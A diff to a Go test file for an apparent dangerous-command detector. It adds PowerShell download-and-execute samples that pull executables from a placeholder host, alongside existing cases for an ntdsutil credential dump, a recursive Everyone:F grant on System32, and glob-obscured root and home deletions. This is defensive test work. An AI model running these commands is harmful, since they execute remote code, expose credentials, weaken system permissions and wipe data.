@@ -65,6 +65,11 @@ func TestAnalyzeSpelledNames(t *testing.T) {
 		{`ntdsutil "ac i ntds" "ifm" "create full c:\temp" q q`, IDCredDump},
 		{`icacls C:\Windows\System32\* /grant Everyone:F /T /C /Q`, IDPermRecursive},
 		{`icacls .\build /grant Users:F /T`, ""},
+		// a PowerShell download started by the same text
+		{`Invoke-WebRequest https://x.io/a.exe -OutFile $env:TEMP\a.exe; Start-Process $env:TEMP\a.exe`, IDDownloadExec},
+		{"iwr https://x.io/a.ps1 -OutFile a.ps1\npowershell -File a.ps1", IDDownloadExec},
+		{`Start-BitsTransfer -Source https://x.io/a.exe -Destination C:\t\a.exe; C:\t\a.exe`, IDDownloadExec},
+		{"iwr https://x.io/data.json -OutFile data.json; Get-Content data.json", ""},
 		// a glob for a name runs whatever it matches
 		{"/bin/r? -rf /", IDRmRoot},
 		{"/usr/bin/su?o /bin/r* -rf ~", IDRmHome},
